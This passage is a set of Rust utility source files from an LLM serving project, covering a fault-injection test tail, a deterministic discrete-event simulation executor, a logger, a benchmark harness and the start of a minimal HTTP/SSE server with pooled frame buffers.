                jobs: 3,
                gpus_per_job: 4,
                walltime: Duration::from_secs(60)
            }
            .trace_tag(),
            "preemption_storm jobs=3 gpus=4 walltime_s=60"
        );
    }

    #[test]
    fn link_faults_inject_with_seeded_probability() {
        let f = LinkFaults::new(3).with_corrupt(1.0);
        assert_eq!(f.next_frame_fault(), FrameFault::Corrupt);
        assert_eq!(f.corrupted.load(Ordering::Relaxed), 1);

        let quiet = LinkFaults::new(3);
        for _ in 0..50 {
            assert_eq!(quiet.next_frame_fault(), FrameFault::Pass);
        }

        // Lane-fatal precedence: truncate beats corrupt beats delay.
        let all = LinkFaults::new(4)
            .with_truncate(1.0)
            .with_corrupt(1.0)
            .with_delay_spike(1.0, Duration::from_millis(5));
        assert_eq!(all.next_frame_fault(), FrameFault::Truncate);

        let spiky = LinkFaults::new(5).with_delay_spike(1.0, Duration::from_millis(5));
        assert_eq!(spiky.next_frame_fault(), FrameFault::Delay(Duration::from_millis(5)));
        assert_eq!(spiky.delayed.load(Ordering::Relaxed), 1);
    }
}
