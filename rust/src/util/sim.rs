//! Discrete-event virtual-time executor.
//!
//! The serving path abstracts time behind [`Clock`]; this module supplies
//! the driver that makes the simulated side of that abstraction *run*: an
//! event queue keyed on [`SimClock`] microseconds with deterministic
//! tie-breaking by `(time, sequence)`. Everything that would be a
//! `thread::sleep`, timeout or tick in wall-clock mode becomes a scheduled
//! closure; the executor pops events in order, advances the shared
//! `SimClock` to each event's due time, and runs the closure — which may
//! schedule (or cancel) further events.
//!
//! Determinism contract (pinned by the property tests below):
//! - an event never runs before its scheduled time;
//! - two events scheduled for the same microsecond run in schedule order
//!   (sequence numbers break the tie — never map/hash iteration order);
//! - the clock never moves backwards, even when an event body advances it
//!   past the next event's due time (e.g. a simulated backend "sleeping"
//!   compute time onto the clock mid-event: the later event then runs at
//!   the advanced now, exactly like a late wake-up under wall clock).
//!
//! Randomness is per-component: [`SimExecutor::rng`] derives a seeded
//! [`Rng`] from the executor's root seed and a component name, so adding a
//! new random consumer never perturbs the draw sequence of existing ones.

use std::cell::{Cell, RefCell};
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use crate::util::clock::{Clock, SimClock};
use crate::util::rng::Rng;

/// Handle to a scheduled event (for cancellation).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct EventId {
    at_us: u64,
    seq: u64,
}

impl EventId {
    /// The virtual time this event is due.
    pub fn at_us(&self) -> u64 {
        self.at_us
    }
}

type EventFn = Box<dyn FnOnce(&SimExecutor)>;

/// Single-threaded discrete-event executor over a shared [`SimClock`].
pub struct SimExecutor {
    clock: Arc<SimClock>,
    queue: RefCell<BTreeMap<(u64, u64), EventFn>>,
    next_seq: Cell<u64>,
    executed: Cell<u64>,
    seed: u64,
}

impl SimExecutor {
    pub fn new(seed: u64) -> SimExecutor {
        SimExecutor {
            clock: SimClock::new(),
            queue: RefCell::new(BTreeMap::new()),
            next_seq: Cell::new(0),
            executed: Cell::new(0),
            seed,
        }
    }

    /// The shared clock every component under this executor must use.
    pub fn clock(&self) -> Arc<SimClock> {
        self.clock.clone()
    }

    pub fn now_us(&self) -> u64 {
        self.clock.now_us()
    }

    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// Seeded RNG for a named component, derived from the root seed. The
    /// same `(root seed, name)` pair always yields the same stream, and
    /// distinct names yield independent streams.
    pub fn rng(&self, component: &str) -> Rng {
        // FNV-1a over the component name, folded into the root seed.
        let mut h: u64 = 0xcbf29ce484222325;
        for b in component.as_bytes() {
            h ^= *b as u64;
            h = h.wrapping_mul(0x100000001b3);
        }
        Rng::new(self.seed ^ h)
    }

    /// Schedule `f` at absolute virtual time `at_us` (clamped to now: a
    /// past due time runs at the current instant, like an expired timer).
    pub fn schedule_at_us(&self, at_us: u64, f: impl FnOnce(&SimExecutor) + 'static) -> EventId {
        let at_us = at_us.max(self.clock.now_us());
        let seq = self.next_seq.get();
        self.next_seq.set(seq + 1);
        let id = EventId { at_us, seq };
        self.queue.borrow_mut().insert((at_us, seq), Box::new(f));
        id
    }

    /// Schedule `f` after a virtual delay.
    pub fn schedule_in(&self, d: Duration, f: impl FnOnce(&SimExecutor) + 'static) -> EventId {
        self.schedule_at_us(self.clock.now_us().saturating_add(d.as_micros() as u64), f)
    }

    /// Cancel a pending event. Returns `false` if it already ran (or was
    /// already cancelled).
    pub fn cancel(&self, id: EventId) -> bool {
        self.queue.borrow_mut().remove(&(id.at_us, id.seq)).is_some()
    }

    /// Due time of the earliest pending event.
    pub fn next_due_us(&self) -> Option<u64> {
        self.queue.borrow().keys().next().map(|&(t, _)| t)
    }

    pub fn pending(&self) -> usize {
        self.queue.borrow().len()
    }

    /// Events executed so far (telemetry for benches).
    pub fn executed(&self) -> u64 {
        self.executed.get()
    }

    /// Run the earliest pending event, advancing the clock to its due time
    /// (never backwards). Returns `false` when the queue is empty.
    pub fn step(&self) -> bool {
        // Pop before running: the event body may schedule or cancel, so the
        // queue borrow must not be held across the call.
        let Some(((at_us, _), f)) = self.queue.borrow_mut().pop_first() else {
            return false;
        };
        if at_us > self.clock.now_us() {
            self.clock.set_us(at_us);
        }
        self.executed.set(self.executed.get() + 1);
        f(self);
        true
    }

    /// Run every event due up to and including `until_us`, then advance the
    /// clock to `until_us` (events an event body schedules inside the
    /// window are run too).
    pub fn run_until_us(&self, until_us: u64) {
        loop {
            match self.next_due_us() {
                Some(t) if t <= until_us => {
                    self.step();
                }
                _ => break,
            }
        }
        if self.clock.now_us() < until_us {
            self.clock.set_us(until_us);
        }
    }

    /// Run for a virtual duration from the current instant.
    pub fn run_for(&self, d: Duration) {
        self.run_until_us(self.clock.now_us().saturating_add(d.as_micros() as u64));
    }

    /// Drain the queue completely (careful with self-rescheduling ticks:
    /// prefer `run_until_us` when any recurring event exists).
    pub fn run_until_idle(&self) {
        while self.step() {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prop_assert;
    use crate::util::prop::run_prop;
    use std::rc::Rc;

    #[test]
    fn events_run_in_time_order_with_clock_advanced() {
        let ex = SimExecutor::new(1);
        let seen: Rc<RefCell<Vec<(u64, u64)>>> = Rc::default();
        for &t in &[300u64, 100, 200] {
            let seen = seen.clone();
            ex.schedule_at_us(t, move |ex| seen.borrow_mut().push((t, ex.now_us())));
        }
        ex.run_until_us(1_000);
        assert_eq!(&*seen.borrow(), &[(100, 100), (200, 200), (300, 300)]);
        assert_eq!(ex.now_us(), 1_000, "run_until advances to the horizon");
    }

    #[test]
    fn same_time_events_run_in_schedule_order() {
        let ex = SimExecutor::new(1);
        let seen: Rc<RefCell<Vec<u32>>> = Rc::default();
        for i in 0..16u32 {
            let seen = seen.clone();
            ex.schedule_at_us(50, move |_| seen.borrow_mut().push(i));
        }
        ex.run_until_idle();
        assert_eq!(&*seen.borrow(), &(0..16).collect::<Vec<_>>());
    }

    #[test]
    fn events_can_schedule_and_cancel_events() {
        let ex = SimExecutor::new(1);
        let seen: Rc<RefCell<Vec<&'static str>>> = Rc::default();
        let doomed = {
            let seen = seen.clone();
            ex.schedule_at_us(500, move |_| seen.borrow_mut().push("doomed"))
        };
        {
            let seen = seen.clone();
            ex.schedule_at_us(100, move |ex| {
                seen.borrow_mut().push("first");
                assert!(ex.cancel(doomed), "pending event must cancel");
                let seen2 = seen.clone();
                ex.schedule_in(Duration::from_micros(50), move |_| {
                    seen2.borrow_mut().push("chained");
                });
            });
        }
        ex.run_until_idle();
        assert_eq!(&*seen.borrow(), &["first", "chained"]);
        assert!(!ex.cancel(doomed), "double-cancel reports false");
    }

    #[test]
    fn mid_event_clock_advance_never_rolls_back() {
        // An event that burns virtual compute (clock.sleep) past the next
        // event's due time: the later event runs late but the clock is
        // monotone throughout.
        let ex = SimExecutor::new(1);
        let seen: Rc<RefCell<Vec<u64>>> = Rc::default();
        ex.schedule_at_us(100, |ex| {
            ex.clock.sleep(Duration::from_micros(500)); // now = 600
        });
        {
            let seen = seen.clone();
            ex.schedule_at_us(200, move |ex| seen.borrow_mut().push(ex.now_us()));
        }
        ex.run_until_idle();
        assert_eq!(&*seen.borrow(), &[600], "late event runs at the advanced now");
    }

    #[test]
    fn component_rngs_are_stable_and_independent() {
        let a = SimExecutor::new(42);
        let b = SimExecutor::new(42);
        assert_eq!(a.rng("gateway").next_u64(), b.rng("gateway").next_u64());
        assert_ne!(a.rng("gateway").next_u64(), a.rng("arrivals").next_u64());
        let c = SimExecutor::new(43);
        assert_ne!(a.rng("gateway").next_u64(), c.rng("gateway").next_u64());
    }

    // --- satellite: property tests over arbitrary interleavings ---------

    #[test]
    fn prop_no_event_runs_early_and_clock_is_monotone() {
        run_prop("sim_executor_ordering", 0x51e5, 60, |rng| {
            let ex = SimExecutor::new(rng.next_u64());
            // (scheduled_at, seq-within-time) per run, in execution order.
            let ran: Rc<RefCell<Vec<(u64, u64, u64)>>> = Rc::default(); // (due, id, ran_at)
            let mut live: Vec<EventId> = Vec::new();
            let mut next_id = 0u64;
            let ops = rng.range(20, 120);
            for _ in 0..ops {
                match rng.below(10) {
                    // schedule (dominant op)
                    0..=5 => {
                        let at = ex.now_us() + rng.below(5_000);
                        let id = next_id;
                        next_id += 1;
                        let ran = ran.clone();
                        let ev = ex.schedule_at_us(at, move |ex| {
                            ran.borrow_mut().push((at.max(0), id, ex.now_us()));
                        });
                        live.push(ev);
                    }
                    // cancel a random pending event
                    6..=7 => {
                        if !live.is_empty() {
                            let i = rng.below(live.len() as u64) as usize;
                            ex.cancel(live.swap_remove(i));
                        }
                    }
                    // advance by a random window
                    _ => {
                        let before = ex.now_us();
                        ex.run_until_us(before + rng.below(3_000));
                        prop_assert!(ex.now_us() >= before, "clock moved backwards");
                    }
                }
            }
            ex.run_until_idle();
            let ran = ran.borrow();
            let mut last_ran_at = 0u64;
            for &(due, _, ran_at) in ran.iter() {
                prop_assert!(ran_at >= due, "event ran at {ran_at} before its due time {due}");
                prop_assert!(ran_at >= last_ran_at, "execution times not monotone");
                last_ran_at = ran_at;
            }
            // Same-due-time events must execute in schedule (id) order:
            // ids are assigned in schedule order, and within one due time
            // the executor must preserve them.
            for w in ran.windows(2) {
                let (d0, i0, _) = w[0];
                let (d1, i1, _) = w[1];
                if d0 == d1 {
                    prop_assert!(i0 < i1, "same-time events reordered: {i0} after {i1}");
                }
            }
            Ok(())
        });
    }

    #[test]
    fn prop_cancelled_events_never_run() {
        run_prop("sim_executor_cancel", 0xca9c, 40, |rng| {
            let ex = SimExecutor::new(rng.next_u64());
            let ran: Rc<RefCell<Vec<u64>>> = Rc::default();
            let mut cancelled = Vec::new();
            let mut kept = Vec::new();
            for id in 0..rng.range(5, 60) {
                let at = rng.below(10_000);
                let ran = ran.clone();
                let ev = ex.schedule_at_us(at, move |_| ran.borrow_mut().push(id));
                if rng.chance(0.5) {
                    cancelled.push((id, ev));
                } else {
                    kept.push(id);
                }
            }
            for &(_, ev) in &cancelled {
                prop_assert!(ex.cancel(ev), "cancel of pending event failed");
            }
            ex.run_until_idle();
            let ran = ran.borrow();
            for &(id, _) in &cancelled {
                prop_assert!(!ran.contains(&id), "cancelled event {id} ran");
            }
            let mut sorted_ran: Vec<u64> = ran.clone();
            sorted_ran.sort_unstable();
            let mut kept_sorted = kept.clone();
            kept_sorted.sort_unstable();
            prop_assert!(sorted_ran == kept_sorted, "kept events did not all run");
            Ok(())
        });
    }
}
