//! Leveled, component-tagged logger.
//!
//! Stands in for `log`/`env_logger`. Level comes from `CHAT_HPC_LOG`
//! (`error|warn|info|debug|trace`, default `warn` so tests and benches stay
//! quiet).

use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::OnceLock;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    Error = 0,
    Warn = 1,
    Info = 2,
    Debug = 3,
    Trace = 4,
}

static LEVEL: AtomicU8 = AtomicU8::new(u8::MAX);
static START: OnceLock<std::time::Instant> = OnceLock::new();

fn level() -> u8 {
    let v = LEVEL.load(Ordering::Relaxed);
    if v != u8::MAX {
        return v;
    }
    let parsed = match std::env::var("CHAT_HPC_LOG").as_deref() {
        Ok("error") => 0,
        Ok("info") => 2,
        Ok("debug") => 3,
        Ok("trace") => 4,
        _ => 1,
    };
    LEVEL.store(parsed, Ordering::Relaxed);
    parsed
}

/// Override the level programmatically (examples use this for verbosity).
pub fn set_level(l: Level) {
    LEVEL.store(l as u8, Ordering::Relaxed);
}

pub fn enabled(l: Level) -> bool {
    (l as u8) <= level()
}

#[doc(hidden)]
pub fn emit(l: Level, component: &str, msg: std::fmt::Arguments<'_>) {
    if !enabled(l) {
        return;
    }
    let t = START.get_or_init(std::time::Instant::now).elapsed();
    let tag = match l {
        Level::Error => "ERROR",
        Level::Warn => "WARN ",
        Level::Info => "INFO ",
        Level::Debug => "DEBUG",
        Level::Trace => "TRACE",
    };
    eprintln!("[{:>9.3}s {} {}] {}", t.as_secs_f64(), tag, component, msg);
}

#[macro_export]
macro_rules! log_error {
    ($c:expr, $($a:tt)*) => { $crate::util::logging::emit($crate::util::logging::Level::Error, $c, format_args!($($a)*)) };
}
#[macro_export]
macro_rules! log_warn {
    ($c:expr, $($a:tt)*) => { $crate::util::logging::emit($crate::util::logging::Level::Warn, $c, format_args!($($a)*)) };
}
#[macro_export]
macro_rules! log_info {
    ($c:expr, $($a:tt)*) => { $crate::util::logging::emit($crate::util::logging::Level::Info, $c, format_args!($($a)*)) };
}
#[macro_export]
macro_rules! log_debug {
    ($c:expr, $($a:tt)*) => { $crate::util::logging::emit($crate::util::logging::Level::Debug, $c, format_args!($($a)*)) };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn level_ordering() {
        set_level(Level::Info);
        assert!(enabled(Level::Error));
        assert!(enabled(Level::Info));
        assert!(!enabled(Level::Debug));
        set_level(Level::Warn);
    }
}
