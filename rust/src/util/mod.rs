//! Foundation substrates.
//!
//! The offline build environment pins the dependency closure of the `xla`
//! crate, so the usual ecosystem crates (serde, tokio, hyper, criterion,
//! proptest, rand) are unavailable. Everything in this module is an owned,
//! tested replacement sized for this system's needs.

pub mod json;
pub mod rng;
pub mod clock;
pub mod logging;
pub mod metrics;
pub mod http;
pub mod prop;
pub mod bench;
pub mod sim;
pub mod retry;
pub mod faults;
