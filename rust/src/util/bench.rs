//! Micro/macro benchmark harness (criterion is unavailable offline).
//!
//! Benches in `benches/` are `harness = false` binaries that use this module
//! to time closures, compute robust statistics, and print table rows that
//! mirror the paper's Tables 1–2 format.

use std::time::Instant;

/// Summary statistics over a sample of seconds.
#[derive(Debug, Clone, Copy)]
pub struct Stats {
    pub n: usize,
    pub mean: f64,
    pub std: f64,
    pub min: f64,
    pub p50: f64,
    pub p95: f64,
    pub p99: f64,
    pub max: f64,
}

pub fn stats(samples: &[f64]) -> Stats {
    assert!(!samples.is_empty());
    let n = samples.len();
    let mean = samples.iter().sum::<f64>() / n as f64;
    let var = samples.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / n as f64;
    let mut sorted = samples.to_vec();
    sorted.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let q = |p: f64| sorted[((p * (n - 1) as f64).round() as usize).min(n - 1)];
    Stats {
        n,
        mean,
        std: var.sqrt(),
        min: sorted[0],
        p50: q(0.5),
        p95: q(0.95),
        p99: q(0.99),
        max: sorted[n - 1],
    }
}

/// Time `f` for `n` iterations after `warmup` iterations; returns per-call
/// seconds.
pub fn time_n(warmup: usize, n: usize, mut f: impl FnMut()) -> Vec<f64> {
    for _ in 0..warmup {
        f();
    }
    let mut out = Vec::with_capacity(n);
    for _ in 0..n {
        let t = Instant::now();
        f();
        out.push(t.elapsed().as_secs_f64());
    }
    out
}

/// Measure sustained throughput: run `f` repeatedly for ~`secs` wall seconds
/// and return completed ops/sec.
pub fn throughput_for(secs: f64, mut f: impl FnMut()) -> f64 {
    let start = Instant::now();
    let mut ops = 0u64;
    while start.elapsed().as_secs_f64() < secs {
        f();
        ops += 1;
    }
    ops as f64 / start.elapsed().as_secs_f64()
}

/// Parallel closed-loop throughput with `workers` threads.
pub fn throughput_parallel(secs: f64, workers: usize, f: impl Fn() + Send + Sync) -> f64 {
    let start = Instant::now();
    let stop = std::sync::atomic::AtomicBool::new(false);
    let ops = std::sync::atomic::AtomicU64::new(0);
    std::thread::scope(|s| {
        for _ in 0..workers {
            s.spawn(|| {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    f();
                    ops.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                }
            });
        }
        std::thread::sleep(std::time::Duration::from_secs_f64(secs));
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
    });
    ops.load(std::sync::atomic::Ordering::Relaxed) as f64 / start.elapsed().as_secs_f64()
}

/// Machine-readable bench results: sweep name → `{rps, p50_ms, p99_ms,
/// ttft_ms}`, written as `BENCH_<table>.json` next to the human-readable
/// table so the perf trajectory is tracked PR-over-PR (fields that don't
/// apply to a sweep are 0).
#[derive(Default)]
pub struct BenchReport {
    entries: std::collections::BTreeMap<String, (f64, f64, f64, f64)>,
}

impl BenchReport {
    pub fn new() -> BenchReport {
        BenchReport::default()
    }

    pub fn entry(&mut self, sweep: &str, rps: f64, p50_ms: f64, p99_ms: f64, ttft_ms: f64) {
        // Round to keep the files diff-friendly across runs.
        let r = |v: f64| (v * 1000.0).round() / 1000.0;
        self.entries.insert(sweep.to_string(), (r(rps), r(p50_ms), r(p99_ms), r(ttft_ms)));
    }

    pub fn to_json(&self) -> crate::util::json::Json {
        let mut out = crate::util::json::Json::obj();
        for (name, &(rps, p50, p99, ttft)) in &self.entries {
            out = out.set(
                name,
                crate::util::json::Json::obj()
                    .set("rps", rps)
                    .set("p50_ms", p50)
                    .set("p99_ms", p99)
                    .set("ttft_ms", ttft),
            );
        }
        out
    }

    /// Write the report; prints the path so bench logs point at it.
    pub fn write(&self, path: &str) -> std::io::Result<()> {
        std::fs::write(path, self.to_json().dump())?;
        println!("\nwrote {} ({} sweeps)", path, self.entries.len());
        Ok(())
    }
}

/// Shared CLI contract for the executable benches. Every bench accepts
/// `--smoke` (CI-sized run) and `--seed N` (default 7, the CI seed);
/// bench-specific switches go through [`BenchArgs::flag`] so a bench
/// never re-implements arg scanning.
#[derive(Debug, Clone)]
pub struct BenchArgs {
    pub smoke: bool,
    pub seed: u64,
    args: Vec<String>,
}

impl BenchArgs {
    /// Parse from the process arguments (skips `argv[0]`; tolerates the
    /// `--bench` flag cargo appends to bench binaries).
    pub fn parse() -> BenchArgs {
        BenchArgs::from_args(std::env::args().skip(1).collect())
    }

    /// Parse from an explicit argument list (the testable entry point).
    pub fn from_args(args: Vec<String>) -> BenchArgs {
        let smoke = args.iter().any(|a| a == "--smoke");
        let seed = args
            .iter()
            .position(|a| a == "--seed")
            .and_then(|i| args.get(i + 1))
            .and_then(|s| s.parse().ok())
            .unwrap_or(7);
        BenchArgs { smoke, seed, args }
    }

    /// Whether a bench-specific switch (e.g. `--serving`) was passed.
    pub fn flag(&self, name: &str) -> bool {
        self.args.iter().any(|a| a == name)
    }

    /// Value of a bench-specific `--key value` option.
    pub fn value(&self, name: &str) -> Option<&str> {
        self.args
            .iter()
            .position(|a| a == name)
            .and_then(|i| self.args.get(i + 1))
            .map(String::as_str)
    }
}

/// Print a table header like the paper's tables.
pub fn table_header(title: &str, cols: &[&str]) {
    println!("\n## {title}");
    println!("| {} |", cols.join(" | "));
    println!("|{}|", cols.iter().map(|_| "---").collect::<Vec<_>>().join("|"));
}

pub fn table_row(cells: &[String]) {
    println!("| {} |", cells.join(" | "));
}

/// Format seconds as "mean (std) ms" like Table 1.
pub fn fmt_ms(s: &Stats) -> String {
    format!("{:.2} ({:.2})", s.mean * 1e3, s.std * 1e3)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stats_basic() {
        let s = stats(&[1.0, 2.0, 3.0, 4.0, 5.0]);
        assert_eq!(s.n, 5);
        assert!((s.mean - 3.0).abs() < 1e-12);
        assert_eq!(s.min, 1.0);
        assert_eq!(s.max, 5.0);
        assert_eq!(s.p50, 3.0);
    }

    #[test]
    fn time_n_counts() {
        let mut calls = 0;
        let v = time_n(2, 5, || calls += 1);
        assert_eq!(v.len(), 5);
        assert_eq!(calls, 7);
    }

    #[test]
    fn bench_report_schema_roundtrips() {
        let mut r = BenchReport::new();
        r.entry("sentence_7b", 27.35, 580.1234, 910.5, 0.0);
        r.entry("multiturn_cache_on", 3.2, 0.0, 0.0, 61.75);
        let j = r.to_json();
        let row = j.get("sentence_7b").unwrap();
        assert!((row.f64_or("rps", 0.0) - 27.35).abs() < 1e-9);
        assert!((row.f64_or("p50_ms", 0.0) - 580.123).abs() < 1e-9, "rounded to 3 decimals");
        let parsed = crate::util::json::Json::parse(&j.dump()).unwrap();
        assert!(
            (parsed.at(&["multiturn_cache_on", "ttft_ms"]).unwrap().as_f64().unwrap() - 61.75)
                .abs()
                < 1e-9
        );
    }

    #[test]
    fn bench_args_parse_smoke_seed_and_flags() {
        let strs = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let a = BenchArgs::from_args(strs(&["--bench", "--smoke", "--seed", "42", "--serving"]));
        assert!(a.smoke);
        assert_eq!(a.seed, 42);
        assert!(a.flag("--serving"));
        assert!(!a.flag("--chaos"));
        assert_eq!(a.value("--seed"), Some("42"));
        assert_eq!(a.value("--missing"), None);

        let d = BenchArgs::from_args(vec![]);
        assert!(!d.smoke, "smoke defaults off");
        assert_eq!(d.seed, 7, "seed defaults to the CI seed");

        // Malformed --seed falls back to the default instead of panicking.
        let bad = BenchArgs::from_args(strs(&["--seed", "banana"]));
        assert_eq!(bad.seed, 7);
        let dangling = BenchArgs::from_args(strs(&["--smoke", "--seed"]));
        assert!(dangling.smoke);
        assert_eq!(dangling.seed, 7);
    }

    #[test]
    fn throughput_positive() {
        let t = throughput_for(0.05, || {
            std::hint::black_box(1 + 1);
        });
        assert!(t > 1000.0);
    }
}
