//! Minimal HTTP/1.1 server and client over `std::net`.
//!
//! Owned replacement for hyper/axum/reqwest. Supports what the stack needs:
//! request routing by method+path, fixed and chunked bodies, Server-Sent
//! Events streaming (for token streaming à la the OpenAI API), keep-alive,
//! and a threaded accept loop.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, IoSlice, Read, Write};
use std::net::{TcpListener, TcpStream, ToSocketAddrs};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{anyhow, bail, Context, Result};

/// Parsed HTTP request.
#[derive(Debug, Clone)]
pub struct Request {
    pub method: String,
    /// Path without query string.
    pub path: String,
    /// Decoded query parameters.
    pub query: BTreeMap<String, String>,
    pub headers: BTreeMap<String, String>,
    pub body: Vec<u8>,
}

impl Request {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(&name.to_ascii_lowercase()).map(|s| s.as_str())
    }

    pub fn body_str(&self) -> &str {
        std::str::from_utf8(&self.body).unwrap_or("")
    }
}

/// Response under construction.
#[derive(Debug, Clone)]
pub struct Response {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Response {
    pub fn new(status: u16) -> Response {
        Response { status, headers: Vec::new(), body: Vec::new() }
    }

    pub fn text(status: u16, body: &str) -> Response {
        Response::new(status)
            .header("content-type", "text/plain; charset=utf-8")
            .with_body(body.as_bytes())
    }

    pub fn json(status: u16, body: &crate::util::json::Json) -> Response {
        Response::new(status)
            .header("content-type", "application/json")
            .with_body(body.dump().as_bytes())
    }

    pub fn header(mut self, k: &str, v: &str) -> Response {
        self.headers.push((k.to_string(), v.to_string()));
        self
    }

    pub fn with_body(mut self, body: &[u8]) -> Response {
        self.body = body.to_vec();
        self
    }

    pub fn header_value(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    pub fn body_str(&self) -> &str {
        std::str::from_utf8(&self.body).unwrap_or("")
    }

    pub fn json_body(&self) -> Result<crate::util::json::Json> {
        crate::util::json::Json::parse(self.body_str()).map_err(|e| anyhow!("{e}"))
    }
}

/// What a handler returns: either a buffered response or a streaming one.
pub enum Reply {
    Full(Response),
    /// Streaming body (`text/event-stream`): the callback receives a sink to
    /// push chunks through; the connection closes when it returns.
    Stream {
        status: u16,
        headers: Vec<(String, String)>,
        producer: Box<dyn FnOnce(&mut dyn StreamSink) -> Result<()> + Send>,
    },
}

impl Reply {
    pub fn full(r: Response) -> Reply {
        Reply::Full(r)
    }

    pub fn sse(
        producer: impl FnOnce(&mut dyn StreamSink) -> Result<()> + Send + 'static,
    ) -> Reply {
        Reply::Stream {
            status: 200,
            headers: vec![
                ("content-type".into(), "text/event-stream".into()),
                ("cache-control".into(), "no-cache".into()),
            ],
            producer: Box::new(producer),
        }
    }
}

/// Chunk sink passed to streaming producers.
pub trait StreamSink {
    fn send(&mut self, chunk: &[u8]) -> Result<()>;

    fn send_event(&mut self, data: &str) -> Result<()> {
        // SSE framing: `data: <payload>\n\n`
        let mut buf = Vec::with_capacity(data.len() + 8);
        buf.extend_from_slice(b"data: ");
        buf.extend_from_slice(data.as_bytes());
        buf.extend_from_slice(b"\n\n");
        self.send(&buf)
    }

    /// Frame a whole batch of SSE events into ONE chunked write (one
    /// flush): the coalesced-streaming hot path — every token that is
    /// already waiting rides the same syscall through every downstream hop
    /// instead of costing a write+flush each.
    fn send_event_batch(&mut self, datas: &[&str]) -> Result<()> {
        let mut buf =
            Vec::with_capacity(datas.iter().map(|d| d.len() + 8).sum::<usize>());
        for d in datas {
            buf.extend_from_slice(b"data: ");
            buf.extend_from_slice(d.as_bytes());
            buf.extend_from_slice(b"\n\n");
        }
        self.send(&buf)
    }
}

// ---------------------------------------------------------------------------
// Pooled frame buffers + reference-counted frames (zero-copy hot path)
// ---------------------------------------------------------------------------

/// Buffers retained in the process-wide frame pool.
const FRAME_POOL_MAX: usize = 256;
/// Buffers that grew past this are dropped instead of pooled, so one
/// oversized frame cannot pin megabytes in the free-list forever.
const FRAME_POOL_MAX_CAP: usize = 64 * 1024;

/// Process-wide free-list of byte buffers for the streaming hot path (SSE
/// batches, SSH frame seal/open scratch). Steady-state streams allocate
/// nothing: every buffer cycles acquire → fill → [`Frame`] → drop → release.
static FRAME_POOL: Mutex<Vec<Vec<u8>>> = Mutex::new(Vec::new());
static POOL_HITS: AtomicU64 = AtomicU64::new(0);
static POOL_MISSES: AtomicU64 = AtomicU64::new(0);

/// Take a cleared buffer from the frame pool (or allocate a fresh one).
pub fn frame_buf_acquire() -> Vec<u8> {
    if let Some(mut b) = FRAME_POOL.lock().unwrap().pop() {
        b.clear();
        POOL_HITS.fetch_add(1, Ordering::Relaxed);
        return b;
    }
    POOL_MISSES.fetch_add(1, Ordering::Relaxed);
    Vec::new()
}

/// Return a buffer to the frame pool (dropped when the pool is full or the
/// buffer never grew / grew oversized).
pub fn frame_buf_release(buf: Vec<u8>) {
    if buf.capacity() == 0 || buf.capacity() > FRAME_POOL_MAX_CAP {
        return;
    }
    let mut pool = FRAME_POOL.lock().unwrap();
    if pool.len() < FRAME_POOL_MAX {
        pool.push(buf);
    }
}

/// `(hits, misses)` acquire counters — the microbench and pool tests read
/// these; they are monotonic process-wide.
pub fn frame_pool_stats() -> (u64, u64) {
    (POOL_HITS.load(Ordering::Relaxed), POOL_MISSES.load(Ordering::Relaxed))
}

/// A cheaply clonable, reference-counted view of a byte buffer (the
/// `Bytes` idea, sized to what this stack needs). Streaming layers hand a
/// `Frame` around instead of copying `Vec<u8>`s; an offset view lets a
/// payload travel without its header being sliced out, and when the last
/// clone drops the backing buffer returns to the frame pool.
pub struct Frame {
    buf: Option<Arc<Vec<u8>>>,
    start: usize,
}

impl Frame {
    /// Wrap a whole buffer.
    pub fn from_vec(buf: Vec<u8>) -> Frame {
        Frame { buf: Some(Arc::new(buf)), start: 0 }
    }

    /// Wrap a buffer exposing only `buf[start..]` (a frame payload after
    /// its header): the header bytes ride along unseen instead of being
    /// copied out.
    pub fn from_vec_offset(buf: Vec<u8>, start: usize) -> Frame {
        debug_assert!(start <= buf.len());
        Frame { buf: Some(Arc::new(buf)), start }
    }

    /// Copy a slice into a pooled buffer.
    pub fn copy_from_slice(data: &[u8]) -> Frame {
        let mut b = frame_buf_acquire();
        b.extend_from_slice(data);
        Frame::from_vec(b)
    }

    pub fn len(&self) -> usize {
        match &self.buf {
            Some(b) => b.len() - self.start,
            None => 0,
        }
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl std::ops::Deref for Frame {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        match &self.buf {
            Some(b) => &b[self.start..],
            None => &[],
        }
    }
}

impl AsRef<[u8]> for Frame {
    fn as_ref(&self) -> &[u8] {
        self
    }
}

impl Clone for Frame {
    fn clone(&self) -> Frame {
        Frame { buf: self.buf.clone(), start: self.start }
    }
}

impl Drop for Frame {
    fn drop(&mut self) {
        if let Some(arc) = self.buf.take() {
            // Last reference returns the allocation to the pool.
            if let Ok(v) = Arc::try_unwrap(arc) {
                frame_buf_release(v);
            }
        }
    }
}

impl std::fmt::Debug for Frame {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Frame({} bytes)", self.len())
    }
}

/// `write_all` across several buffers with one `writev` in the common
/// case; finishes part-by-part only on a short vectored write. At most 4
/// parts (all call sites frame header + payload + trailer).
pub fn write_all_vectored(w: &mut dyn Write, parts: &[&[u8]]) -> Result<()> {
    debug_assert!(parts.len() <= 4);
    let mut slices = [IoSlice::new(&[]); 4];
    let n_parts = parts.len().min(4);
